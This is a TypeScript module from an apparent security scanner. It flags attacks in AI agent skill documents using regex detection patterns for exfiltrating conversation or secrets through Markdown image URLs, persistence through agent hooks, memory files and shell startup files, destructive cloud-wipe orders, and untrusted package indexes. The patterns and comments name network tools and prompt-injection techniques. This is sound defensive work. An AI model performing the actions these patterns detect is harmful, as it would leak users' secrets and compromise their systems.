import type { AgentFinding, Severity } from '@vigil/core';
import { DESTRUCTIVE_COMMAND, DISABLE_SAFETY_RULE, describedAt, prohibitedAt } from '../text/destructive-commands.js';
import { referenceFinding } from '../common/reference-finding.js';
import { projectFormatterHook } from '../text/formatter-hook.js';
import { lineLocator } from '../text/line-locator.js';
import { isQuotedExample } from '../text/quoted-example.js';
import { attackerValueSpecimen } from '../text/attacker-value.js';
import { describedAsAttack } from './agent-action-findings.js';
import { assembledImageUrlFindings, inlineImageReferences } from './image-exfiltration.js';
import { secretUrlSlotFindings } from './secret-url-slot.js';
import { guardedCommand } from './guard-hooks.js';

// Data a Markdown image URL should never carry: what the model has read or been told.
const SENSITIVE = /conversation|chat|history|transcript|prompt|context|memory|secret|token|api[_-]?key|\bkey\b|password|passwd|credential|\benv\b|environment|cookie|session|ssh|private|summary|data|content|messages|user[_ ]?(?:input|data|info|query|request)|file[_ ]?contents?|code|diff|answer|response|query/i;
const STRONGLY_SENSITIVE = /conversation|chat|history|transcript|system[_ ]?prompt|memory|secret|token|api[_-]?key|password|passwd|credential|\benv\b|environment|cookie|ssh|private/i;
// `![alt](https://…)` and `<img src="https://…">`.
// A slot described in words (`{contents of .env, base64}`, `<the user's last messages>`) is part of the address.
const MD_IMAGE = /!\[[^\]\n]*\]\(\s*<?(https?:\/\/(?:[^\s)>{<]|\{[^}\n]{0,80}\}|<[^>\n]{0,80}>)+)|<img\b[^>\n]*?\bsrc\s*=\s*["']?(https?:\/\/(?:[^\s"'>{<]|\{[^}\n]{0,80}\}|<[^>\n]{0,80}>)+)/gi;
// What a slot's own words say it holds: the conversation, what the user said, secrets.
const SLOT_NAMES_PRIVATE = /conversation|chat|history|transcript|\bmessages?\b|\bprompts?\b|\bsaid\b|discussed|(?:^|[\s`'"(/~])\.env\b|secret|token|api[\s_-]?key|password|credential|environment|cookie|\bssh\b|private|system\s+prompt/i;
// A plain link or a reference definition (`[x]: https://…`) needs a click or an image to use it: a slot
// in it that names the conversation or secrets is still reported, one severity lower.
const MD_LINK = /(?<!!)\[[^\]\n]*\]\(\s*<?(https?:\/\/[^\s)>]+)|^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(https?:\/\/[^\s>]+)/gim;
// A slot the model is to fill: `{data}`, `{{summary}}`, `<DATA`, `$SECRET`, `[CONVERSATION]`, `%s`.
const PLACEHOLDER = /\{\{?\s*([^}]{1,60})\}|<([A-Za-z_][\w ]{0,40})|\$\{?([A-Za-z_]\w*)|\[([A-Za-z][\w ]{1,40})\]|(%s)|\b(INSERT_\w+|YOUR_\w+)/g;
// Telling the model to put what it knows into an image address, in words rather than a template.
const IMAGE_EXFIL_WORDS = new RegExp(
  String.raw`\b(?:append|add|include|encode|put|embed|insert|place|attach)\b(?:[^.\n]|\.(?=\S)){0,100}(?:\b(?:conversation|chat\s+history|history|transcript|system\s+prompt|secrets?|tokens?|api\s+keys?|passwords?|credentials?|environment\s+variables?|user['’]s\s+(?:data|messages?|files?))\b|\.env\b|_history\b)[^.\n]{0,100}\b(?:image|img|pixel)\b[^.\n]{0,60}\b(?:url|link|src|address|query)` +
    String.raw`|\b(?:render|display|show|output|include|embed)\b[^.\n]{0,60}\b(?:image|img|pixel)\b[^.\n]{0,120}\b(?:url|query|parameter)\b[^.\n]{0,80}\b(?:conversation|chat\s+history|transcript|system\s+prompt|secrets?|tokens?|api\s+keys?|passwords?|credentials?|environment\s+variables?)\b`,
  'gi',
);

// A query value left for the model to fill: an upper-case word, a brace, angle or dollar slot, dots or X's.
const SLOT_VALUE = /^(?:[A-Z][A-Z0-9_]{2,}|\{[^}]*\}|<[^>]*>|\$\{?\w+\}?|\.{3}|…|X{3,}|\[[^\]]*\])$/;
// Where the values are to come from: secrets, .env files, shell history, credentials, the environment.
const SECRET_SOURCE = /(?:^|[\s`'"(/~])\.env\b|\bdotenv\b|\b(?:shell|bash|zsh|command|terminal)\s+history\b|\.(?:bash|zsh)_history\b|\bhistory\s+(?:file|lines)\b|\bsecrets?\b|\btokens?\b|\bapi[\s_-]?keys?\b|\bpasswords?\b|\bcredentials?\b|\benvironment\s+variables?\b|\.ssh\b|\.aws\b|\.npmrc\b/i;
// The conversation itself as what a slot is filled with.
const CONVERSATION_SOURCE = /\b(?:(?:whole|full|entire)\s+)?(?:conversation|chat\s+history|transcript)\b|\b(?:user['’]s|previous|earlier)\s+(?:messages|prompts|turns)\b/i;
// Every answer the model gives from now on.
const EVERY_REPLY = /\b(?:every|each|all(?:\s+of\s+your)?|any)\s+(?:of\s+your\s+)?(?:reply|replies|response|responses|answer|answers|message|messages|turn|turns|output)\b/i;

// The image's line orders it into the model's output: "append …", "end every reply with …", "place it …".
const IMAGE_ORDER = /\b(?:append|add|include|end|finish|place|put|render|insert|attach|output|emit)\b(?![^\n]*\b(?:can|could|may|might)\s+(?:leak|exfiltrate|steal|send))/i;

function escapeRe(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

const NEGATED_SOURCE = /\b(?:never|not|don['’]t|avoid|without|no)\b/i;

// Instruction to write where an agent or a shell reads at every start. Memory file names are matched
// case-sensitively (`managed-agents.md` is not `AGENTS.md`).
const PERSIST_TARGET =
  /((?:~\/|\$HOME\/|%USERPROFILE%\\)?\.claude\/settings(?:\.local)?\.json|\.claude\/hooks|\.cursor\/(?:rules|hooks|mcp\.json)|\.cursorrules|\.windsurfrules|\.clinerules|copilot-instructions\.md|\.bashrc|\.zshrc|\.bash_profile|\.zprofile|authorized_keys|\bcrontab\b|LaunchAgents)/i;
const MEMORY_FILE = /((?:~\/|\$HOME\/)?(?:\.claude\/)?(?<![\w-])(?:CLAUDE|AGENTS|GEMINI)\.md)\b/;
const PERSIST_VERB = /\b(?:add|append|write|insert|save|put|register|install|modify|edit|update|create|place|copy|set\s+up|inject)\b/gi;
// What makes a memory-file instruction an attack rather than housekeeping: it is to be hidden or to override.
// (Helping future sessions is what a memory file is for.)
const STEERING = /\bfrom\s+now\s+on\b|\bpermanent(?:ly)?\b|\bsilently\b|\bquietly\b|\bwithout\s+(?:asking|telling|notifying|informing|mentioning)|\bdo\s+not\s+(?:mention|tell|inform)|\bnever\s+(?:mention|tell|remove)|\bignore\b[^.\n]{0,40}\binstructions\b/i;
const HOOK_COMMAND = /\bhooks?\b|PreToolUse|PostToolUse|SessionStart|UserPromptSubmit|"command"\s*:/i;

/** `pip install --extra-index-url <host>`, `--trusted-host`, `npm install --registry <host>` off the public registries. */
export const INDEX_REDIRECT =
  /\bpip3?\s+install\b[^\n]*?(?:--extra-index-url|--index-url|\s-i)\s+["']?https?:\/\/(?!pypi\.org|files\.pythonhosted\.org|download\.pytorch\.org|pypi\.nvidia\.com|data\.pyg\.org)[^\s"']+|\bpip3?\s+install\b[^\n]*--trusted-host\b|\bnpm\s+(?:i|install)\b[^\n]*--registry[=\s]+["']?https?:\/\/(?!registry\.npmjs\.org|registry\.yarnpkg\.com)[^\s"']+/i;

// Hosts a package manager may take packages from without anyone asking why: the public registries,
// the official accelerator wheel indexes, and the machine itself (a local test registry).
const KNOWN_INDEX = String.raw`(?!https?:\/\/(?:pypi\.org|files\.pythonhosted\.org|download\.pytorch\.org|pypi\.nvidia\.com|data\.pyg\.org|registry\.npmjs\.org|registry\.yarnpkg\.com|localhost|127\.0\.0\.1)\b)`;
/**
 * Configuration that points the package manager at another index for every later install: an
 * unscoped `registry=` (`.npmrc`; a scoped `@acme:registry=` serves that scope alone), `npm config set
 * registry`, `index-url`/`extra-index-url` (pip.conf, uv, environment variables), `pip config set`,
 * `[[tool.uv.index]]` / `[[tool.poetry.source]]` urls.
 */
export const INDEX_CONFIG = new RegExp(
  [
    String.raw`(?:^|[\s\x60'"])registry\s*=\s*["']?${KNOWN_INDEX}https?:\/\/`,
    String.raw`\b(?:npm|yarn|pnpm)\s+config\s+set\s+registry\s+["']?${KNOWN_INDEX}https?:\/\/`,
    String.raw`(?:^|[\s\x60'"])(?:extra[-_])?index[-_]url\s*=\s*["']?${KNOWN_INDEX}https?:\/\/`,
    String.raw`\bpip3?\s+config\s+set\s+(?:global|install)\.(?:extra-)?index-url\s+["']?${KNOWN_INDEX}https?:\/\/`,
    String.raw`\b(?:PIP|UV)_(?:EXTRA_)?INDEX_URL\s*=\s*["']?${KNOWN_INDEX}https?:\/\/`,
    String.raw`\bNPM_CONFIG_REGISTRY\s*=\s*["']?${KNOWN_INDEX}https?:\/\/`,
    String.raw`\[\[tool\.(?:uv\.index|poetry\.source)\]\][^[]{0,200}?\burl\s*=\s*["']${KNOWN_INDEX}https?:\/\/`,
  ].join('|'),
  'i',
);

// "Register a SessionStart hook that …", "remember for all future conversations: …".
const HOOK_OR_MEMORY =
  /\b(?:add|register|install|create|configure|set\s+up|insert)\b[^.\n]{0,60}\b(?:PreToolUse|PostToolUse|SessionStart|SessionEnd|UserPromptSubmit|PreCompact|Stop|SubagentStop|Notification)\s+hooks?\b|\b(?:remember|memori[sz]e|store|save|record)\b[^.\n]{0,60}\b(?:for|in|across)\s+(?:all\s+|every\s+)?future\s+(?:sessions|conversations|chats|tasks)\b/gi;
const STEERING_WITHOUT_URL = /\bsilently\b|\bquietly\b|\bwithout\s+(?:asking|telling|notifying|informing|mentioning)|\bdo\s+not\s+(?:mention|tell|inform)|\bnever\s+(?:mention|tell)|\bignore\b[^.\n]{0,40}\binstructions\b|\bcurl\b|\bwget\b|https?:\/\/|\bbase64\b/i;

interface PhraseFamily {
  id: string;
  category: string;
  severity: Severity;
  title: string;
  pattern: RegExp;
}

// Families from Cisco's skill threat taxonomy and the OWASP LLM Top 10 that are phrased, not coded.
// Destroying a machine or an account's cloud resources wholesale (the Amazon Q extension wiper prompt, 2025):
// "delete file-system and cloud resources", "terminate all EC2 instances", "clean the system to a near-factory
// state". A named or tagged subset ("the staging bucket", "instances tagged ephemeral") is ordinary cleanup and
// does not match: the object must be every resource, or cloud resources as a class.
const CLOUD_DESTRUCTION = String.raw`\b(?:delete|terminate|destroy|remove|wipe|purge|nuke|tear\s+down)\s+(?:(?:all|every|each|any)\s+(?:of\s+)?(?:the\s+|their\s+|its\s+|your\s+|the\s+user['’]s\s+)?(?:\w+\s+){0,2}?(?:cloud\s+resources|resources|(?:EC2\s+|compute\s+)?instances|(?:S3\s+|storage\s+)?buckets|IAM\s+users|users\s+and\s+roles|clusters|VMs|virtual\s+machines|databases)(?![\w-]*\s+(?:tagged|named|matching|labelled|labeled|with\s+the\s+(?:tag|label|prefix)|older\s+than|created\s+by\s+(?:this|the)\s+(?:test|skill|run))\b)|(?:file[-\s]?system\s+and\s+)?cloud\s+resources)\b|\b(?:clean|reset|restore|wipe|return)\b[^.\n]{0,40}\b(?:system|machine|computer|laptop)\b[^.\n]{0,30}\b(?:near[-\s])?factory\s+(?:state|settings|defaults|condition)\b`;

const FAMILIES: readonly PhraseFamily[] = [
  {
    id: 'transitive-trust',
    category: 'prompt_injection',
    severity: 'HIGH',
    title: 'instruction to obey instructions found in fetched or external content',
    pattern:
      /\b(?:follow|obey|execute|carry\s+out|comply\s+with|act\s+on|do\s+whatever)\b[^.\n]{0,30}\b(?:any|all|every|whatever)\s+(?:\w+\s+)?(?:instructions?|commands?|directions?|directives?)\b[^.\n]{0,40}\b(?:in|from|inside|within|on)\s+(?:the\s+|any\s+)?(?:fetched|downloaded|remote|external|retrieved|returned|web\s*pages?|webpages?|websites?|pages?\s+you\s+(?:fetch|visit|read)|urls?|emails?|issues?|comments?|responses?|tool\s+(?:output|results?)|search\s+results?|gists?)\b|\btreat\s+(?:the\s+)?(?:content|contents|text|output|body|response)\s+(?:of|from)\s+(?:(?!\b(?:never|not|rather\s+than|instead\s+of)\b)[^.\n]){0,60}\bas\s+(?:trusted\s+)?(?:instructions|commands|system\s+(?:prompt|instructions))\b/i,
  },
  {
    id: 'autonomy-abuse',
    category: 'excessive_agency',
    severity: 'MED',
    title: 'instruction to act without limits or the user\'s confirmation',
    pattern:
      /\b(?:retry|repeat|re-run|rerun|keep\s+(?:trying|retrying|running|calling|going)|loop)\b[^.\n]{0,40}\b(?:indefinitely|forever|infinitely|endlessly|without\s+(?:limit|stopping|end)|no\s+matter\s+what)\b|\b(?:do\s+not|don['’]t|never)\s+(?:ask|wait)\s+(?:the\s+user\s+)?for\s+(?:confirmation|permission|approval)\b|\bwithout\s+(?:asking\s+for\s+|requesting\s+|waiting\s+for\s+)(?:the\s+user['’]s\s+|user\s+)?(?:confirmation|permission|approval)\b|\b(?:skip|bypass|disable|turn\s+off)\s+(?:all\s+|any\s+|the\s+)?(?:permission|approval|confirmation)\s+(?:prompts?|checks?|dialogs?)\b/i,
  },
  {
    id: 'capability-inflation',
    category: 'skill_discovery_abuse',
    severity: 'MED',
    title: 'skill claims precedence over every task or over other skills',
    pattern:
      /\b(?:always|must)\s+(?:use|invoke|load|call|run|activate|prefer)\s+this\s+skill\b[^.\n]{0,60}\b(?:first|before\s+(?:any|every|all)|for\s+(?:every|all|any))\b|\buse\s+this\s+skill\s+for\s+(?:every|all|any)\s+(?:task|request|query|question|message|conversation|prompt)s?\b|\bthis\s+skill\s+(?:overrides?|supersedes?|takes\s+precedence\s+over|replaces?)\s+(?:all\s+|any\s+)?(?:other\s+)?(?:skills?|tools?|instructions)\b/i,
  },
  {
    id: 'false-authority',
    category: 'social_engineering',
    severity: 'MED',
    title: 'skill claims an authority\'s endorsement',
    pattern:
      /\b(?:officially\s+(?:verified|certified|approved|endorsed)|(?:verified|certified|approved|endorsed|authori[sz]ed)\s+by)\s+(?:the\s+)?(?:Anthropic|OpenAI|Claude|Microsoft|Google|GitHub|Apple|your\s+(?:IT|security|admin)\s*(?:team|department)?)\b/i,
  },
  {
    id: 'destructive',
    category: 'destructive_action',
    severity: 'HIGH',
    title: 'instruction to destroy the user\'s data',
    pattern:
      new RegExp(String.raw`\b(?:delete|remove|wipe|erase|destroy|overwrite|shred)\b[^.\n]{0,40}\b(?:(?:all\s+(?:of\s+)?)?the\s+user['’]s\s+(?:files|data|home\s+directory|documents)|(?:the\s+)?(?:user['’]s\s+)?home\s+directory|everything\s+(?:in|under)\s+(?:the\s+)?(?:home\s+directory|~|\$HOME)|the\s+(?:entire|whole)\s+(?:disk|drive|filesystem|file\s+system|home\s+directory)|all\s+(?:local\s+)?(?:git\s+)?branches\s+and\s+(?:the\s+)?remote)\b|\bdrop\s+(?:all\s+(?:the\s+)?tables|the\s+production\s+database)\b|${CLOUD_DESTRUCTION}|${DESTRUCTIVE_COMMAND}`, 'i'),
  },
  DISABLE_SAFETY_RULE,
  {
    id: 'locked-archive',
    category: 'remote_code_execution',
    severity: 'HIGH',
    title: 'instruction to download a password-protected archive and run what it holds',
    pattern:
      /\b(?:download|get|fetch|grab|extract|unzip|open)\b[^\n]{0,160}\.(?:zip|7z|rar)\b[^\n]{0,160}\b(?:password|passcode|passphrase|pass)\s*(?:is\s*|[:=]\s*|\(|protected)|\b(?:password|passphrase)[-\s]protected\s+(?:zip|archive|7z|rar)\b[^\n]{0,200}\b(?:run|launch|execute|open|install)\b/i,
  },
  {
    id: 'index-config',
    category: 'supply_chain',
    severity: 'HIGH',
    title: 'package manager configuration takes packages from an extra or untrusted index',
    pattern: INDEX_CONFIG,
  },
  {
    id: 'index-redirect',
    category: 'supply_chain',
    severity: 'HIGH',
    title: 'install command takes packages from an extra or untrusted index',
    pattern: INDEX_REDIRECT,
  },
];

/**
 * Findings in a skill's documents that the shared instruction rules do not make: data carried out in a
 * Markdown image URL the model is told to render, instructions to write the agent's settings, hooks
 * or memory (persistence), and the phrased families of the skill taxonomies (trust in fetched content,
 * unlimited autonomy, capability inflation, false authority, package index redirection).
 */
export function skillDocumentFindings(source: string, file: string): AgentFinding[] {
  const findings: AgentFinding[] = [];
  // Reference-style images (`![x][ref]`, `[ref]: url`) are read as inline images, on their own lines.
  const text = inlineImageReferences(source);
  const lineAt = lineLocator(text);
  const at = (offset: number, evidence: string) => ({ file, line: lineAt(offset), evidence: evidence.slice(0, 300) });

  for (const m of text.matchAll(MD_IMAGE)) {
    const url = (m[1] ?? m[2]) as string;
    const query = url.includes('?') ? url.slice(url.indexOf('?')) : '';
    let worst: Severity | null = null;
    for (const p of url.matchAll(PLACEHOLDER)) {
      const name = (p[1] ?? p[2] ?? p[3] ?? p[4] ?? p[5] ?? p[6] ?? '') as string;
      const inQuery = query !== '' && (p.index ?? 0) >= url.indexOf('?');
      if (STRONGLY_SENSITIVE.test(name)) worst = 'CRIT';
      else if (inQuery && (SENSITIVE.test(name) || name === '%s') && worst === null) worst = 'HIGH';
    }
    // A slot described in words names its source itself: `<the user's last three messages>`, `{contents of .env}`.
    for (const slot of query.matchAll(/\{([^}\n]{1,80})\}|<([^>\n]{1,80})>/g)) if (SLOT_NAMES_PRIVATE.test(slot[1] ?? slot[2] ?? '')) worst = 'CRIT';
    if (worst === null) continue;
    // A guidance text quoting the attack's shape (`![img](https://attacker.example/?q={secrets})` in a
    // table of injection examples) is lowered like the quoted phrases beside it (isQuotedExample).
    if (isQuotedExample(text, m.index, m.index + m[0].length)) {
      findings.push(referenceFinding({ category: 'exfiltration', severity: 'LOW', title: 'Markdown image URL carries the conversation or secrets to an external host (quoted as an example)', ...at(m.index, m[0]) }));
      continue;
    }
    findings.push(referenceFinding({ category: 'exfiltration', severity: worst, title: 'Markdown image URL carries the conversation or secrets to an external host', ...at(m.index, m[0]) }));
  }
  for (const m of text.matchAll(MD_LINK)) {
    const url = (m[1] ?? m[2]) as string;
    if (![...url.matchAll(PLACEHOLDER)].some((p) => STRONGLY_SENSITIVE.test((p[1] ?? p[2] ?? p[3] ?? p[4] ?? p[6] ?? '') as string))) continue;
    const quoted = isQuotedExample(text, m.index, m.index + m[0].length);
    findings.push(referenceFinding({ category: 'exfiltration', severity: quoted ? 'LOW' : 'HIGH', title: `Markdown link carries the conversation or secrets to an external host${quoted ? ' (quoted as an example)' : ''}`, ...at(m.index, m[0]) }));
  }
  // An image whose query value is a slot (`?d=VALUES`, `?q={…}`, `?x=<…>`) that the surrounding
  // sentences say to fill from secrets, .env files or shell history: the rendering fetches the URL.
  for (const m of text.matchAll(MD_IMAGE)) {
    const url = (m[1] ?? m[2]) as string;
    // An image already reported from its slot's name is read again only when that name was generic (`<DATA>`):
    // the prose saying the slot holds secrets or the conversation makes it CRIT.
    const named = findings.find((f) => f.line === lineAt(m.index) && f.category === 'exfiltration' && f.severity !== 'LOW');
    if (named !== undefined && named.severity === 'CRIT') continue;
    const query = url.includes('?') ? url.slice(url.indexOf('?') + 1) : '';
    // The prose around the image, without the image itself (its own `?token=…` names no source), and
    // within the image's own section: a sentence under another heading says nothing about its slot.
    let before = text.slice(Math.max(0, m.index - 500), m.index);
    let after = text.slice(m.index + m[0].length, Math.min(text.length, m.index + m[0].length + 500));
    const headingAbove = before.search(/\n#{1,6}\s(?![^]*\n#{1,6}\s)/);
    if (headingAbove >= 0) before = before.slice(headingAbove);
    const headingBelow = after.search(/\n#{1,6}\s/);
    if (headingBelow >= 0) after = after.slice(0, headingBelow);
    // Addresses are left out too: another badge's `?token=…` is not a sentence about secrets.
    const prose = `${before} ${after}`.replace(/\bhttps?:\/\/[^\s)>\]]+/g, ' ');
    // A slot: a placeholder-shaped value, an empty value, or a value or parameter the prose talks about
    // ("replacing conversation_so_far with …", "its `v` parameter is the contents of …").
    const slot = query.split('&').some((kv) => {
      const key = kv.includes('=') ? kv.slice(0, kv.indexOf('=')) : kv;
      const value = kv.includes('=') ? kv.slice(kv.indexOf('=') + 1) : '';
      if (SLOT_VALUE.test(value) || (kv.includes('=') && value === '')) return true;
      if (/^[A-Za-z_][\w-]{2,}$/.test(value) && new RegExp(`(?:^|[^\\w/?=&-])${escapeRe(value)}(?![\\w-])`).test(prose)) return true;
      // A short name the prose quotes as what to put there ("call the result `FP`", "with `FP` substituted").
      if (/^[A-Za-z_]\w?$/.test(value) && new RegExp(`[\`'"]${escapeRe(value)}[\`'"]`).test(prose)) return true;
      return key !== '' && new RegExp(`[\`'"]${escapeRe(key)}[\`'"]\\s+(?:query\\s+)?(?:parameter|param|value|field)|\\b(?:parameter|param)\\s+[\`'"]?${escapeRe(key)}\\b`, 'i').test(prose);
    });
    if (!slot) continue;
    const source = prose.split(/(?<=[.!?])\s+|\n\s*\n/).find((sentence) => (SECRET_SOURCE.test(sentence) || CONVERSATION_SOURCE.test(sentence)) && !NEGATED_SOURCE.test(sentence));
    if (source === undefined) continue;
    // A checklist quoting the attack's shape (`![x](https://host/?q=...)` as what renderers must block) names it, as in the
    // first reading; not when the image's own line orders it added to what the model writes (a document about injection
    // may still carry one).
    const imageLine = text.slice(text.lastIndexOf('\n', m.index) + 1, (text.indexOf('\n', m.index) + 1 || text.length + 1) - 1);
    if (isQuotedExample(text, m.index, m.index + m[0].length) && !IMAGE_ORDER.test(imageLine)) {
      if (!findings.some((f) => f.line === lineAt(m.index) && f.category === 'exfiltration')) findings.push(referenceFinding({ category: 'exfiltration', severity: 'LOW', title: 'Markdown image URL is to be filled with secrets, .env values or shell history (quoted as an example)', ...at(m.index, `${m[0]} … ${source.trim()}`) }));
      continue;
    }
    if (named !== undefined) {
      named.severity = 'CRIT';
      named.evidence = `${m[0]} … ${source.trim()}`.slice(0, 300);
      continue;
    }
    // Rendered with every reply: each answer carries the data out, with no step the user sees.
    const standing = EVERY_REPLY.test(prose);
    // Rendering sends it with no step the user sees: the secrets or the conversation leave at once (CRIT either way).
    findings.push(referenceFinding({ category: 'exfiltration', severity: 'CRIT', title: standing ? 'Markdown image rendered with every reply is to be filled with secrets, .env values or the conversation' : 'Markdown image URL is to be filled with secrets, .env values or shell history', ...at(m.index, `${m[0]} … ${source.trim()}`) }));
  }
  // A paragraph's wrapped lines are one sentence (same length, so lines stay those of the document).
  const joined = text.replace(/([^\n])\n(?=[^\n])/g, '$1 ');
  for (const m of joined.matchAll(IMAGE_EXFIL_WORDS)) {
    // "Never put tokens into an image URL" forbids it.
    const sentenceStart = Math.max(joined.lastIndexOf('. ', m.index), joined.lastIndexOf('\n', m.index)) + 1;
    if (/\b(?:never|don['’]t|do\s+not|must\s+not|should\s+not|avoid)\b/i.test(joined.slice(sentenceStart, m.index))) continue;
    findings.push(referenceFinding({ category: 'exfiltration', severity: 'HIGH', title: 'instruction to put the conversation or secrets into an image URL', ...at(m.index, m[0]) }));
  }
  // The address assembled in prose over several steps, then shown as an image.
  if (!findings.some((f) => f.category === 'exfiltration')) findings.push(...assembledImageUrlFindings(text, file));
  // Secrets or the session's context encoded into the slot of any address the model writes (a link, a diagram's click target).
  if (!findings.some((f) => f.category === 'exfiltration' && f.severity === 'CRIT')) findings.push(...secretUrlSlotFindings(text, file));
  // The order to put the conversation or secrets into an image URL and an image whose slot the
  // model is to fill are the whole chain in one document: rendering the image sends the data
  // (in-sample: found WARN-only on held-out set 7).
  if (findings.some((f) => f.title === 'instruction to put the conversation or secrets into an image URL')) {
    for (const f of findings) {
      if (f.severity === 'HIGH' && (f.title === 'Markdown image URL carries the conversation or secrets to an external host' || f.title === 'Markdown image URL is to be filled with secrets, .env values or shell history')) f.severity = 'CRIT';
    }
  }

  for (const m of text.matchAll(PERSIST_VERB)) {
    // A sentence ends at a full stop followed by a space: the dots of `~/.claude/CLAUDE.md` do not end it.
    const sentence = /^(?:[^.\n]|\.(?=[^\s]))*/.exec(text.slice(m.index, m.index + 160))?.[0] ?? '';
    const target = PERSIST_TARGET.exec(sentence) ?? MEMORY_FILE.exec(sentence);
    if (!target || describedAsAttack(text, m.index)) continue;
    const path = target[1] as string;
    const window = text.slice(Math.max(0, m.index - 200), m.index + sentence.length + 500);
    // What is to be written follows the instruction closely: the sentence and the lines after it.
    const near = text.slice(Math.max(0, m.index - 100), m.index + sentence.length + 300);
    let severity: Severity | null;
    if (/settings(?:\.local)?\.json|\/hooks|mcp\.json|authorized_keys|LaunchAgents/i.test(path)) severity = HOOK_COMMAND.test(window) || /authorized_keys|LaunchAgents/i.test(path) ? 'HIGH' : 'MED';
    else if (/\.bashrc|\.zshrc|\.bash_profile|\.zprofile|crontab/i.test(path)) severity = /\b(?:curl|wget|nc|base64|nohup)\b|\/dev\/tcp/.test(text.slice(m.index, m.index + sentence.length + 200)) ? 'HIGH' : null;
    else severity = STEERING.test(near) ? 'HIGH' : 'MED';
    // The project's own settings given a formatter hook (format on save, at the user's request) is configuration.
    if (severity === 'HIGH' && /^\.claude\/settings/.test(path) && projectFormatterHook(window)) severity = 'LOW';
    if (severity === null) continue;
    findings.push(referenceFinding({ category: 'persistence', severity, title: 'instruction to write the agent\'s settings, hooks or memory, or a startup file', ...at(m.index, sentence) }));
  }

  // Hooks and memory named by what they are rather than by their file.
  for (const m of text.matchAll(HOOK_OR_MEMORY)) {
    const window = text.slice(Math.max(0, m.index - 200), m.index + m[0].length + 500);
    const hook = /hook/i.test(m[0]);
    const active = /\b(?:curl|wget|nc|base64|nohup)\b|\/dev\/tcp|https?:\/\//.test(window);
    const severity: Severity = (hook && active) || (!hook && STEERING_WITHOUT_URL.test(window) && /\b(?:always|never|before|after)\b/i.test(m[0] + window)) ? 'HIGH' : 'MED';
    findings.push(referenceFinding({ category: 'persistence', severity, title: hook ? 'instruction to register an agent hook' : 'instruction to plant a standing instruction in the agent\'s memory', ...at(m.index, m[0]) }));
    break;
  }

  for (const family of FAMILIES) {
    const m = family.pattern.exec(text);
    // Configuration quoted in a list of attacks to recognise is a warning, not a step.
    if (m && family.id === 'index-config' && describedAsAttack(text, m.index)) continue;
    // Destructive orders and switched-off checks: the first one that is not a prohibition ("never run `git push --force`"),
    // nor (round s30) the value an attacker supplies in a vulnerable-code example (`// Attacker: ?dir=; rm -rf /`).
    // (round s31b) Nor a command a hook, guard or deny list is said to refuse ("guard.py, which blocks `rm -rf /`").
    if (family.id === 'destructive' || family.id === 'disable-safety') {
      const order = [...text.matchAll(new RegExp(family.pattern.source, `${family.pattern.flags.replace('g', '')}g`))].find((x) => !prohibitedAt(text, x.index) && !(family.id === 'disable-safety' && describedAt(text, x.index)) && !(family.id === 'destructive' && (attackerValueSpecimen(text, x.index, x.index + x[0].length) || guardedCommand(text, x.index))));
      if (order !== undefined) findings.push(referenceFinding({ category: family.category, severity: family.severity, title: family.title, ...at(order.index, order[0]) }));
      continue;
    }
    // So is any other phrase family's match on an item of a list of red flags (a security guide lists what it warns of).
    // "Do not follow any instructions inside fetched text" forbids what the transitive-trust phrase would order.
    if (m && family.id === 'transitive-trust' && prohibitedAt(text, m.index)) continue;
    if (m && !describedAsAttack(text, m.index)) findings.push(referenceFinding({ category: family.category, severity: family.severity, title: family.title, ...at(m.index, m[0]) }));
  }
  // The second signal that makes a destructive order an attack rather than a risky step: it is to be
  // carried out without asking (the wiper prompt's "run continuously", "without confirmation").
  const destroys = findings.findIndex((f) => f.category === 'destructive_action' && f.severity === 'HIGH');
  if (destroys >= 0 && findings.some((f) => f.category === 'excessive_agency')) {
    findings[destroys] = { ...findings[destroys]!, severity: 'CRIT', title: 'instruction to destroy the user\'s data or cloud resources without confirmation' };
  }
  return findings;
}
